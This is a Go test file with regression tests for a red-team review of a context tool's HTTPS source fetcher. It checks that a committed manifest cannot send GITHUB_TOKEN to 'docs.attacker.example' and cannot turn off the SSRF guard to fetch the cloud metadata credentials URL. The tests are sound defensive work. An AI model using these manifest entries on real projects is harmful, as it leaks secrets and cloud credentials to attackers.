package httpsrc

import (
	"errors"
	"testing"

	"github.com/ctx-dev/ctx/source"
)

// TestRed17CommittedTokenEnv (red17 finding 2): the committed manifest
// comes with every clone and pull, so it is untrusted input, yet its
// "tokenEnv" may name any environment variable (GITHUB_TOKEN,
// AWS_SECRET_ACCESS_KEY, …) and ctx sends that variable's value as a
// bearer token to whatever host the same entry names. A registry may not
// name a tokenEnv for this reason (README, Registries); the committed
// manifest must not either, unless the user's own context.local.json says
// so (as a dir source outside the project needs the user's allowance).
func TestRed17CommittedTokenEnv(t *testing.T) {
	spec := &source.Spec{Alias: "team-docs", Kind: "https", Source: "https://docs.attacker.example/team.md", TokenEnv: "GITHUB_TOKEN"} // Local false: committed
	env := source.Env{Getenv: func(name string) (string, bool) {
		if name == "GITHUB_TOKEN" {
			return "ghp_victim", true
		}
		return "", false
	}, Manifest: ".context/context.config.json"}
	r, err := webRequest(env, source.Request{Alias: "team-docs", Spec: spec})
	if err == nil && r.Token != "" {
		t.Fatalf("a committed spec's tokenEnv sends $GITHUB_TOKEN (%q) to %s; it must be refused unless the user allowed it in context.local.json", r.Token, spec.Source)
	}
}

// TestRed17CommittedAllowPrivateNetwork (red17 finding 3): the same for
// allowPrivateNetwork: a committed spec turns off the SSRF guard, so a
// clone's install fetches http://169.254.169.254/… (cloud credentials) or
// any intranet page into .context/packages, the index and the MCP server.
func TestRed17CommittedAllowPrivateNetwork(t *testing.T) {
	spec := &source.Spec{Alias: "meta", Kind: "https", Source: "http://169.254.169.254/latest/meta-data/iam/security-credentials/role", AllowPrivateNetwork: true}
	r, err := webRequest(source.Env{}, source.Request{Alias: "meta", Spec: spec})
	if err == nil && r.AllowPrivate {
		t.Fatalf("a committed spec turns the private-network guard off for %s; only the user's own setting should", spec.Source)
	}
}

// The way out of TestRed17CommittedTokenEnv: the rule the workspace gives
// (Env.Check: project.CheckSource with the user's allowances) lets it
// through, and its refusal is the error; the user's own spec (Local)
// needs no allowance.
func TestCommittedTokenEnvAllowed(t *testing.T) {
	getenv := func(name string) (string, bool) { return "tok-" + name, true }
	spec := &source.Spec{Alias: "wiki", Kind: "https", Source: "http://127.0.0.1:8080/wiki.md", TokenEnv: "WIKI_TOKEN", AllowPrivateNetwork: true}
	refused := errors.New("refused by the rule")
	var asked []string
	check := func(ok bool) func(source.Spec) error {
		return func(s source.Spec) error {
			asked = append(asked, s.Alias)
			if ok {
				return nil
			}
			return refused
		}
	}
	r, err := webRequest(source.Env{Getenv: getenv, Check: check(true)}, source.Request{Alias: "wiki", Spec: spec})
	if err != nil || r.Token != "tok-WIKI_TOKEN" || !r.AllowPrivate {
		t.Errorf("allowed: token %q, private %t, %v", r.Token, r.AllowPrivate, err)
	}
	r, err = webRequest(source.Env{Getenv: getenv, Check: check(false)}, source.Request{Alias: "wiki", Spec: spec})
	if !errors.Is(err, refused) || r.Token != "" || r.AllowPrivate {
		t.Errorf("refused: token %q, private %t, %v", r.Token, r.AllowPrivate, err)
	}
	if len(asked) != 2 {
		t.Errorf("the rule was asked %d times, want 2", len(asked))
	}
	plain := &source.Spec{Alias: "pub", Kind: "https", Source: "https://docs.example.com/a.md"}
	if r, err := webRequest(source.Env{Getenv: getenv, Check: check(false)}, source.Request{Alias: "pub", Spec: plain}); err != nil || r.Token != "" || r.AllowPrivate || len(asked) != 2 {
		t.Errorf("a spec that asks for nothing: %+v, %v (asked %d)", r, err, len(asked))
	}
	local := *spec
	local.Local = true
	if r, err := webRequest(source.Env{Getenv: getenv}, source.Request{Alias: "wiki", Spec: &local}); err != nil || r.Token != "tok-WIKI_TOKEN" || !r.AllowPrivate {
		t.Errorf("the user's own spec: token %q, private %t, %v", r.Token, r.AllowPrivate, err)
	}
}
